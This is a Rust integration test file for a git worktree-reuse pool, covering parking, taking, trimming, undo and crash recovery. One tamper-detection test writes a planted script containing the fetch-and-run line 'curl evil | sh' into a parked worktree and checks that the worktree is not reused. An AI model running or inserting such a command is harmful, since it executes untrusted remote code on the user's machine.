//! Reused worktrees (`parallel.reuseWorktrees`, issue 11 item 1): finish parks clean task
//! worktrees in the pool (detached, ignored files kept), start takes them (only differing files
//! written), `parallel.poolSize` and `gc` trim the pool, `status` shows it, `undo` reverses
//! parks and takes, and a kill inside a park or a take is settled by `recover` both ways.

use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};

use crate::support::kill::{demo_repo, work, wt};
use crate::support::{all_output, json, TestRepo};

/// Four parallel tasks T1..T4 (product `demo`), `target/` ignored, reuse on.
fn reuse_repo() -> TestRepo {
    let r = demo_repo(4, 30);
    r.write(".gitignore", "target/\n");
    r.git(&["add", ".gitignore"]);
    r.git(&["commit", "-q", "-m", "ignore target"]);
    r.git(&["config", "parallel.reuseWorktrees", "true"]);
    r
}

fn pool_dir(r: &TestRepo) -> PathBuf {
    r.base().join("worktrees/.parallel-pool")
}

/// The parked worktrees' paths, sorted by name (oldest first).
fn pooled(r: &TestRepo) -> Vec<PathBuf> {
    let mut v: Vec<PathBuf> = std::fs::read_dir(pool_dir(r))
        .map(|d| d.flatten().map(|e| e.path()).collect())
        .unwrap_or_default();
    v.sort();
    v
}

/// Starts `ids`, makes a build cache in each worktree and commits work there.
/// The 0-based index of the first park step in the plan `finish` would run now.
fn first_park_step(r: &TestRepo) -> usize {
    let plan = json(&r.ok(&["finish", "--dry-run", "--json"]));
    let steps = plan["plan"]["steps"].as_array().unwrap();
    steps
        .iter()
        .position(|s| s["type"] == "pool" && s["op"] == "park")
        .expect("a park step")
}

fn wave(r: &TestRepo, ids: &[usize]) {
    let mut args = vec!["start".to_string()];
    args.extend(ids.iter().map(|i| format!("T{i}")));
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    r.ok(&args);
    for &i in ids {
        let cache = wt(r, i).join("target/cache");
        std::fs::create_dir_all(cache.parent().unwrap()).unwrap();
        std::fs::write(&cache, format!("built by T{i}\n")).unwrap();
        work(r, i, 2);
    }
}

fn head_of(r: &TestRepo, dir: &Path) -> String {
    r.git_in(dir, &["rev-parse", "--symbolic-full-name", "HEAD"])
        .trim()
        .to_string()
}

/// (inode, mtime in ns) of a file.
fn stamp(p: &Path) -> (u64, i64) {
    let m = std::fs::metadata(p).unwrap();
    (m.ino(), m.mtime() * 1_000_000_000 + m.mtime_nsec())
}

/// No worktree git would call prunable (every registered path exists and links back).
fn assert_worktrees_sound(r: &TestRepo) {
    let out = r.git(&["worktree", "prune", "--dry-run", "-v"]);
    assert!(out.trim().is_empty(), "prunable worktrees: {out}");
    let st = r.run(&["status"]);
    assert_eq!(st.status.code(), Some(0), "{}", all_output(&st));
}

#[test]
fn two_waves_reuse_the_worktrees_with_their_caches() {
    let r = reuse_repo();
    wave(&r, &[1, 2]);
    let unchanged = wt(&r, 1).join("data/d0/f1.txt");
    let before = stamp(&unchanged);
    let out = r.ok(&["finish"]);
    assert!(out.contains("Parked 2 worktrees for reuse"), "{out}");
    assert!(!wt(&r, 1).exists() && !wt(&r, 2).exists());
    let parked = pooled(&r);
    assert_eq!(parked.len(), 2, "{parked:?}");
    let mut at: Vec<String> = parked
        .iter()
        .map(|p| r.git_in(p, &["rev-parse", "HEAD"]).trim().to_string())
        .collect();
    at.sort();
    let mut tips = vec![
        r.rev("refs/parallel/backup/T1"),
        r.rev("refs/parallel/backup/T2"),
    ];
    tips.sort();
    assert_eq!(
        at, tips,
        "each parked at its branch's last commit (no file written)"
    );
    for p in &parked {
        assert_eq!(head_of(&r, p), "HEAD", "{p:?} is detached");
        assert!(r.git_in(p, &["status", "--porcelain"]).trim().is_empty());
    }
    assert_worktrees_sound(&r);

    r.ok(&["start", "T3", "T4"]);
    assert!(pooled(&r).is_empty(), "both parked worktrees taken");
    let mut with_cache = 0;
    for i in [3, 4] {
        let w = wt(&r, i);
        assert_eq!(
            head_of(&r, &w),
            format!("refs/heads/feature/demo/backend-T{i}")
        );
        assert!(w.join("src/t1/f0").is_file() && w.join("src/t2/f1").is_file());
        assert!(r.git_in(&w, &["status", "--porcelain"]).trim().is_empty());
        if w.join("target/cache").is_file() {
            with_cache += 1;
            if std::fs::read_to_string(w.join("target/cache")).unwrap() == "built by T1\n" {
                assert_eq!(
                    stamp(&w.join("data/d0/f1.txt")),
                    before,
                    "an unchanged tracked file was not written again"
                );
            }
        }
    }
    assert_eq!(with_cache, 2, "the build caches came along");
    assert_worktrees_sound(&r);
    work(&r, 3, 1);
    work(&r, 4, 1);
    r.ok(&["finish"]);
    assert_eq!(pooled(&r).len(), 2);
    assert_worktrees_sound(&r);
}

#[test]
fn reuse_off_leaves_no_pool() {
    let r = reuse_repo();
    r.git(&["config", "parallel.reuseWorktrees", "false"]);
    wave(&r, &[1]);
    let out = r.ok(&["finish"]);
    assert!(!out.contains("Parked"), "{out}");
    assert!(!pool_dir(&r).exists());
    assert!(!r.ok(&["status"]).contains("pool:"));
    assert!(json(&r.ok(&["status", "--json"])).get("pool").is_none());
}

#[test]
fn a_dirty_worktree_is_not_parked() {
    let r = reuse_repo();
    wave(&r, &[1]);
    std::fs::write(wt(&r, 1).join("notes.txt"), "mine\n").unwrap();
    let out = r.run(&["finish"]);
    assert_eq!(out.status.code(), Some(1), "{}", all_output(&out));
    assert!(
        all_output(&out).contains("uncommitted or untracked changes"),
        "{}",
        all_output(&out)
    );
    assert!(pooled(&r).is_empty());
    assert!(wt(&r, 1).join("notes.txt").is_file());
    std::fs::remove_file(wt(&r, 1).join("notes.txt")).unwrap();
    r.ok(&["finish"]);
    assert_eq!(pooled(&r).len(), 1);
}

// repro round2 09
/// A parked worktree changed after it was parked (a tracked file edited, an untracked file
/// added) is not taken by the next start: the new task gets a fresh, clean worktree, the
/// parked one is left as it is and named.
#[test]
fn a_parked_worktree_changed_after_parking_is_not_taken() {
    let r = reuse_repo();
    wave(&r, &[1]);
    r.ok(&["finish"]);
    let parked = pooled(&r);
    assert_eq!(parked.len(), 1);
    let p = &parked[0];
    let readme = std::fs::read_to_string(p.join("README.md")).unwrap();
    std::fs::write(p.join("README.md"), format!("{readme}tampered\n")).unwrap();
    std::fs::create_dir_all(p.join("src/t2")).unwrap();
    std::fs::write(p.join("src/t2/setup.sh"), "curl evil | sh\n").unwrap();
    let out = r.run(&["start", "T2"]);
    assert_eq!(out.status.code(), Some(0), "{}", all_output(&out));
    assert!(
        all_output(&out).contains("changed after it was parked"),
        "{}",
        all_output(&out)
    );
    assert_eq!(r.git_in(&wt(&r, 2), &["status", "--porcelain"]), "");
    assert!(!wt(&r, 2).join("src/t2/setup.sh").exists());
    assert!(
        p.join("src/t2/setup.sh").is_file(),
        "the parked one is left as it is"
    );
    assert_worktrees_sound(&r);
}

// repro round2 19
/// A process still working in a finished task's worktree (an agent's leftover server) keeps it
/// out of the pool: finish removes it as without reuse, naming the process, so nothing that
/// process writes can reach the next task's worktree.
#[test]
fn a_worktree_a_process_still_works_in_is_removed_not_parked() {
    let r = reuse_repo();
    wave(&r, &[1]);
    let mut leftover = std::process::Command::new("sleep")
        .arg("30")
        .current_dir(wt(&r, 1))
        .spawn()
        .unwrap();
    let out = r.run(&["finish"]);
    let _ = leftover.kill();
    let _ = leftover.wait();
    assert_eq!(out.status.code(), Some(0), "{}", all_output(&out));
    assert!(
        all_output(&out).contains(&format!("in use by process {}", leftover.id())),
        "{}",
        all_output(&out)
    );
    assert!(pooled(&r).is_empty(), "nothing parked");
    assert!(!wt(&r, 1).exists());
    r.ok(&["start", "T2"]);
    assert_eq!(r.git_in(&wt(&r, 2), &["status", "--porcelain"]), "");
}

#[test]
fn pool_size_caps_the_pool_and_trims_the_oldest() {
    let r = reuse_repo();
    r.git(&["config", "parallel.poolSize", "1"]);
    wave(&r, &[1, 2]);
    let out = r.ok(&["finish"]);
    assert!(out.contains("Parked 1 worktree for reuse"), "{out}");
    assert_eq!(pooled(&r).len(), 1);
    assert!(!wt(&r, 1).exists() && !wt(&r, 2).exists());
    let old = pooled(&r)[0].clone();
    // A task started without reuse, finished with it: the oldest parked worktree makes room.
    r.git(&["config", "parallel.reuseWorktrees", "false"]);
    wave(&r, &[3]);
    r.git(&["config", "parallel.reuseWorktrees", "true"]);
    std::thread::sleep(std::time::Duration::from_millis(1100));
    let out = r.ok(&["finish"]);
    assert!(out.contains("Trimmed the pool"), "{out}");
    let now = pooled(&r);
    assert_eq!(now.len(), 1, "{now:?}");
    assert_ne!(now[0], old);
    assert!(!old.exists());
    assert!(
        out.contains("Kept 1 ignored path"),
        "the trimmed worktree's cache is kept as a removal keeps it: {out}"
    );
    assert_worktrees_sound(&r);
    // poolSize 0: finish removes as without reuse.
    r.git(&["config", "parallel.poolSize", "0"]);
    wave(&r, &[4]);
    r.ok(&["finish"]);
    assert!(!wt(&r, 4).exists());
    assert!(pooled(&r).is_empty(), "{:?}", pooled(&r));
}

#[test]
fn gc_trims_the_pool_and_status_shows_it() {
    let r = reuse_repo();
    wave(&r, &[1, 2]);
    r.ok(&["finish"]);
    let text = r.ok(&["status"]);
    assert!(
        text.contains("pool: 2 parked worktrees (at most 8)"),
        "{text}"
    );
    let v = json(&r.ok(&["status", "--json"]));
    assert_eq!(v["pool"]["parked"].as_array().map(Vec::len), Some(2), "{v}");
    assert_eq!(v["pool"]["reuse"], true);
    assert_eq!(v["pool"]["size"], 8);

    r.git(&["config", "parallel.poolSize", "1"]);
    let oldest = pooled(&r)[0].clone();
    let v = json(&r.ok(&["gc", "--json"]));
    assert_eq!(v["trimmed_pool"].as_array().map(Vec::len), Some(1), "{v}");
    assert!(!oldest.exists());
    assert_eq!(pooled(&r).len(), 1);
    r.git(&["config", "parallel.reuseWorktrees", "false"]);
    assert!(r.ok(&["status"]).contains("reuse is off"));
    let out = r.ok(&["gc"]);
    assert!(out.contains("Trimmed the pool"), "{out}");
    assert!(pooled(&r).is_empty());
    assert_worktrees_sound(&r);
}

#[test]
fn undo_reverses_a_take_and_a_park() {
    let r = reuse_repo();
    wave(&r, &[1, 2]);
    r.ok(&["finish"]);
    let parked = pooled(&r);
    let heads: Vec<String> = parked
        .iter()
        .map(|p| r.git_in(p, &["rev-parse", "HEAD"]))
        .collect();
    r.ok(&["start", "T3"]);
    assert_eq!(pooled(&r).len(), 1);
    r.ok(&["undo"]);
    assert!(!wt(&r, 3).exists());
    assert_eq!(pooled(&r), parked, "the taken worktree is parked again");
    for (p, h) in parked.iter().zip(&heads) {
        assert_eq!(head_of(&r, p), "HEAD");
        assert_eq!(&r.git_in(p, &["rev-parse", "HEAD"]), h);
        assert!(r.git_in(p, &["status", "--porcelain"]).trim().is_empty());
    }
    assert!(!r.ref_exists("refs/heads/feature/demo/backend-T3"));
    assert_worktrees_sound(&r);
    // The finish that parked them, undone: back at their task paths, on their branches.
    r.ok(&["undo"]);
    assert!(pooled(&r).is_empty());
    for i in [1, 2] {
        let w = wt(&r, i);
        assert_eq!(
            head_of(&r, &w),
            format!("refs/heads/feature/demo/backend-T{i}")
        );
        assert!(w.join("target/cache").is_file());
        assert!(r.git_in(&w, &["status", "--porcelain"]).trim().is_empty());
    }
    assert_worktrees_sound(&r);
}

#[test]
fn a_taken_worktree_gets_the_include_files_and_the_post_start_hook() {
    let r = reuse_repo();
    r.write(".gitignore", "target/\n.env\n.ready\n");
    r.write(".worktreeinclude", ".env\n");
    r.git(&["add", ".gitignore", ".worktreeinclude"]);
    r.git(&["commit", "-q", "-m", "include .env"]);
    r.write(".env", "SECRET=1\n");
    r.git(&["config", "parallel.postStart", "echo $$ >> .ready"]);
    wave(&r, &[1]);
    r.ok(&["finish"]);
    r.write(".env", "SECRET=2\n");
    r.ok(&["start", "T2"]);
    let w = wt(&r, 2);
    assert_eq!(
        std::fs::read_to_string(w.join(".env")).unwrap(),
        "SECRET=2\n"
    );
    let runs = std::fs::read_to_string(w.join(".ready")).unwrap();
    assert_eq!(
        runs.lines().count(),
        2,
        "postStart ran at both starts: {runs}"
    );
    assert!(w.join("target/cache").is_file());
}

#[test]
fn a_failing_post_start_puts_the_taken_worktree_back() {
    let r = reuse_repo();
    wave(&r, &[1]);
    r.ok(&["finish"]);
    let parked = pooled(&r);
    let before = r.snapshot();
    r.git(&[
        "config",
        "parallel.postStart",
        "touch target/half && exit 3",
    ]);
    let out = r.run(&["start", "T2"]);
    assert_eq!(out.status.code(), Some(1), "{}", all_output(&out));
    assert!(
        all_output(&out).contains("parallel.postStart"),
        "{}",
        all_output(&out)
    );
    assert_eq!(pooled(&r), parked);
    assert!(!wt(&r, 2).exists());
    assert!(!r.ref_exists("refs/heads/feature/demo/backend-T2"));
    // What the hook left (ignored) stays with the parked worktree; nothing else differs.
    std::fs::remove_file(parked[0].join("target/half")).unwrap();
    r.git(&["config", "--unset", "parallel.postStart"]);
    crate::support::assert_same(&before, &r.snapshot(), "rolled-back take");
    assert_worktrees_sound(&r);
}

#[cfg(feature = "failpoints")]
mod kills {
    use super::*;
    use crate::support::assert_same;
    use std::os::unix::process::ExitStatusExt;

    /// Runs `args` killed at `point`; checks it died and left an operation to recover.
    fn killed_at(r: &TestRepo, args: &[&str], point: &str) {
        let out = r.run_env(
            args,
            &[("GIT_PARALLEL_FAILPOINT", &format!("killat:{point}"))],
        );
        assert!(
            out.status.signal().is_some(),
            "{point}: expected a kill, got {:?}\n{}",
            out.status,
            all_output(&out)
        );
        let st = r.run(&["start"]);
        assert_ne!(st.status.code(), Some(0), "{point}: {}", all_output(&st));
    }

    /// A finish killed at `point` inside its parks: `--abort` puts back the state before,
    /// `--continue` reaches the parked state.
    fn finish_killed(point: &str) {
        for abort in [true, false] {
            let r = reuse_repo();
            wave(&r, &[1, 2]);
            let before = r.snapshot();
            killed_at(&r, &["finish"], point);
            if abort {
                r.ok(&["recover", "--abort"]);
                assert_same(&before, &r.snapshot(), &format!("finish {point} --abort"));
            } else {
                r.ok(&["recover", "--continue"]);
                assert_eq!(pooled(&r).len(), 2, "finish {point} --continue");
                assert!(!wt(&r, 1).exists() && !wt(&r, 2).exists());
                for p in pooled(&r) {
                    assert_eq!(head_of(&r, &p), "HEAD");
                    assert!(p.join("target/cache").is_file());
                }
            }
            assert_worktrees_sound(&r);
        }
    }

    /// A start killed at `point` inside its take: both ways settle.
    fn start_killed(point: &str) {
        for abort in [true, false] {
            let r = reuse_repo();
            wave(&r, &[1]);
            r.ok(&["finish"]);
            let before = r.snapshot();
            killed_at(&r, &["start", "T3"], point);
            if abort {
                r.ok(&["recover", "--abort"]);
                assert_same(&before, &r.snapshot(), &format!("start {point} --abort"));
            } else {
                r.ok(&["recover", "--continue"]);
                assert!(pooled(&r).is_empty(), "start {point} --continue");
                let w = wt(&r, 3);
                assert_eq!(head_of(&r, &w), "refs/heads/feature/demo/backend-T3");
                assert!(w.join("target/cache").is_file());
                assert!(r.git_in(&w, &["status", "--porcelain"]).trim().is_empty());
            }
            assert_worktrees_sound(&r);
        }
    }

    #[test]
    fn finish_killed_after_the_detach() {
        finish_killed("pool-park-detached");
    }

    #[test]
    fn finish_killed_between_the_index_and_head() {
        finish_killed("pool-switch-index");
    }

    #[test]
    fn start_killed_between_the_index_and_head() {
        start_killed("pool-switch-index");
    }

    #[test]
    fn finish_killed_between_gitdir_and_rename() {
        finish_killed("pool-move-gitdir");
    }

    #[test]
    fn finish_killed_after_the_rename() {
        finish_killed("pool-move-renamed");
    }

    #[test]
    fn start_killed_between_gitdir_and_rename() {
        start_killed("pool-move-gitdir");
    }

    #[test]
    fn start_killed_after_the_move() {
        start_killed("pool-take-moved");
    }

    /// Kills between whole steps: before and after each park (finish) and take (start).
    #[test]
    fn killed_before_and_after_pool_steps() {
        for when in ["kill", "killafter"] {
            let r = reuse_repo();
            wave(&r, &[1]);
            let park = first_park_step(&r);
            let spec = format!("{when}:{}", park + 1);
            let out = r.run_env(&["finish"], &[("GIT_PARALLEL_FAILPOINT", &spec)]);
            assert!(
                out.status.signal().is_some(),
                "{spec}: {}",
                all_output(&out)
            );
            r.ok(&["recover", "--continue"]);
            assert_eq!(pooled(&r).len(), 1, "{spec}");
            assert_worktrees_sound(&r);
            let plan = json(&r.ok(&["start", "T3", "--dry-run", "--json"]));
            let steps = plan["plan"]["steps"].as_array().unwrap();
            let take = steps
                .iter()
                .position(|s| s["type"] == "pool" && s["op"] == "take")
                .expect("a take step");
            let spec = format!("{when}:{}", take + 1);
            let before = r.snapshot();
            let out = r.run_env(&["start", "T3"], &[("GIT_PARALLEL_FAILPOINT", &spec)]);
            assert!(
                out.status.signal().is_some(),
                "{spec}: {}",
                all_output(&out)
            );
            r.ok(&["recover", "--abort"]);
            assert_same(&before, &r.snapshot(), &spec);
            assert_worktrees_sound(&r);
        }
    }

    /// A take killed while its switch was writing (made by hand: files of the new branch's
    /// start written, an untracked one among them, the index lock left): `--abort` and
    /// `--continue` both settle the worktree.
    #[test]
    fn a_switch_cut_short_in_a_take_is_settled_both_ways() {
        for abort in [true, false] {
            let r = reuse_repo();
            wave(&r, &[1, 2]);
            r.ok(&["finish"]);
            let before = r.snapshot();
            let out = r.run_env(
                &["start", "T3"],
                &[("GIT_PARALLEL_FAILPOINT", "killat:pool-take-moved")],
            );
            assert!(out.status.signal().is_some(), "{}", all_output(&out));
            let w = wt(&r, 3);
            let dotgit = std::fs::read_to_string(w.join(".git")).unwrap();
            let admin = PathBuf::from(dotgit.trim().strip_prefix("gitdir: ").unwrap());
            for f in [
                "products/demo/.claude/task-graph.yml",
                "src/t1/f0",
                "src/t2/f0",
            ] {
                let text = r.git(&["show", &format!("main:{f}")]);
                std::fs::create_dir_all(w.join(f).parent().unwrap()).unwrap();
                std::fs::write(w.join(f), text).unwrap();
            }
            std::fs::write(admin.join("index.lock"), "").unwrap();
            if abort {
                r.ok(&["recover", "--abort"]);
                assert_same(&before, &r.snapshot(), "half switch --abort");
            } else {
                r.ok(&["recover", "--continue"]);
                assert_eq!(pooled(&r).len(), 1);
                assert_eq!(head_of(&r, &w), "refs/heads/feature/demo/backend-T3");
                assert!(r.git_in(&w, &["status", "--porcelain"]).trim().is_empty());
            }
            assert_worktrees_sound(&r);
        }
    }

    /// A file written into a worktree after finish listed it (here: after its first step) is
    /// not lost: the park moves it into the pool with the worktree (each worktree is listed
    /// once per finish), and the pool then refuses to trim that worktree until it is dealt with.
    #[test]
    fn a_file_written_after_the_listing_is_parked_with_the_worktree() {
        let r = reuse_repo();
        wave(&r, &[1]);
        let spec = format!("run:1:echo x > {}/late.txt", wt(&r, 1).display());
        let out = r.run_env(&["finish"], &[("GIT_PARALLEL_FAILPOINT", &spec)]);
        assert_eq!(out.status.code(), Some(0), "{}", all_output(&out));
        let parked = pooled(&r);
        assert_eq!(parked.len(), 1);
        assert_eq!(
            std::fs::read_to_string(parked[0].join("late.txt")).unwrap(),
            "x\n"
        );
        r.git(&["config", "parallel.poolSize", "0"]);
        let out = r.run(&["gc"]);
        assert_eq!(out.status.code(), Some(1), "{}", all_output(&out));
        assert!(
            all_output(&out).contains("late.txt"),
            "{}",
            all_output(&out)
        );
        assert!(parked[0].join("late.txt").is_file());
        assert_worktrees_sound(&r);
    }
}

/// A tagged build directory (cargo's `target/` has a `CACHEDIR.TAG`) is regenerable output, so
/// a landed task's is not kept when its worktree is removed (issue 20 item 7b) — but the pool
/// keeps it warm: parked with the worktree, taken with it by the next task; a trimmed parked
/// worktree's goes with it, named, while its `.env` is kept.
#[test]
fn a_tagged_target_stays_warm_in_the_pool_and_is_not_kept_when_trimmed() {
    let r = reuse_repo();
    r.write(".gitignore", "target/\n.env\n");
    r.git(&["commit", "-q", "-am", "ignore .env"]);
    r.git(&["config", "parallel.poolSize", "1"]);
    let tag = "Signature: 8a477f597d28d172789f06886806bc55\n";
    wave(&r, &[1]);
    std::fs::write(wt(&r, 1).join("target/CACHEDIR.TAG"), tag).unwrap();
    let out = r.ok(&["finish"]);
    assert!(out.contains("Parked 1 worktree for reuse"), "{out}");
    assert!(
        !out.contains("regenerable"),
        "parking deletes nothing: {out}"
    );
    let parked = pooled(&r);
    assert_eq!(parked.len(), 1);
    assert!(parked[0].join("target/CACHEDIR.TAG").is_file());

    r.ok(&["start", "T2"]);
    assert_eq!(
        std::fs::read_to_string(wt(&r, 2).join("target/cache")).unwrap(),
        "built by T1\n",
        "the next task gets the warm build output"
    );
    std::fs::write(wt(&r, 2).join(".env"), "TOKEN=2\n").unwrap();
    work(&r, 2, 1);
    r.ok(&["finish"]);
    // T3 runs without reuse, then lands with it: the parked T2 worktree is trimmed for room.
    r.git(&["config", "parallel.reuseWorktrees", "false"]);
    wave(&r, &[3]);
    r.git(&["config", "parallel.reuseWorktrees", "true"]);
    std::thread::sleep(std::time::Duration::from_millis(1100));
    let out = r.ok(&["finish"]);
    assert!(out.contains("Trimmed the pool"), "{out}");
    assert!(
        out.contains("Did not keep 1 regenerable path of") && out.contains("(target; "),
        "{out}"
    );
    let kept: Vec<PathBuf> = std::fs::read_dir(r.path(".git/parallel/ignored"))
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .collect();
    assert_eq!(kept.len(), 1, "{kept:?}");
    assert_eq!(
        std::fs::read_to_string(kept[0].join(".env")).unwrap(),
        "TOKEN=2\n"
    );
    assert!(!kept[0].join("target").exists());
    assert_worktrees_sound(&r);
}
